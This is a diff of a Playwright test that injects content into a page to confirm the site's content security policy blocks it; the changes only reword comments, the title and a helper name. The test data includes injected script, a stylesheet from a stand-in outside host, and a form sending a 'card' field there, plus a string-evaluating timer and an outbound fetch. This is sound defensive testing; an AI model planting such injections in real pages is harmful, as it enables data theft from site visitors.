@@ -4,8 +4,8 @@ import { expect, test } from "./support/test";
 const OUT = "https://outside.example";
 
 /**
- * What an attacker might bring into a page if our own cleaning failed. The form is sent to a frame:
- * Playwright now and then waits for the blocked navigation of the page itself, which never ends.
+ * What an attacker might inject into a page if the sanitizer failed. The form is submitted into a
+ * frame, because Playwright sometimes waits forever for a blocked navigation of the page itself.
  */
 const INJECTED = `
   <script>${RUN}</script>
@@ -20,9 +20,9 @@ const INJECTED = `
   <link rel="stylesheet" href="${OUT}/x.css">
   <form id="form" action="${OUT}/" target="sink"><input name="card" value="1"></form>`;
 
-// That the site itself needs nothing of this is proved by all other tests: a violation is an error
-// in the console, which fails them.
-test("the content security policy stops whatever is injected into a page", async ({
+// All other tests show that the site itself violates no rule: a violation is an error in the
+// console, which fails them.
+test("the content security policy blocks everything that is injected into a page", async ({
   page,
   watch,
 }) => {
@@ -33,10 +33,10 @@ test("the content security policy stops whatever is injected into a page", async
     await route.fulfill({ response, body });
   });
   const violations = new Set<string>();
-  await page.exposeFunction("noteViolation", (violation: string) => violations.add(violation));
+  await page.exposeFunction("recordViolation", (violation: string) => violations.add(violation));
   await page.addInitScript(() => {
     document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
-      const note: unknown = Reflect.get(window, "noteViolation");
+      const note: unknown = Reflect.get(window, "recordViolation");
       if (typeof note !== "function") return;
       Reflect.apply(note, window, [`${effectiveDirective} ${blockedURI}`]);
     });
@@ -46,7 +46,7 @@ test("the content security policy stops whatever is injected into a page", async
     ([code, outside]) => {
       document.querySelector<HTMLElement>("#trap")?.click();
       document.querySelector<HTMLFormElement>("#form")?.submit();
-      // A text given to a timer is evaluated.
+      // A timer evaluates a string as code.
       Reflect.apply(setTimeout, window, [code]);
       fetch(outside).catch(() => undefined);
       const script = document.createElement("script");
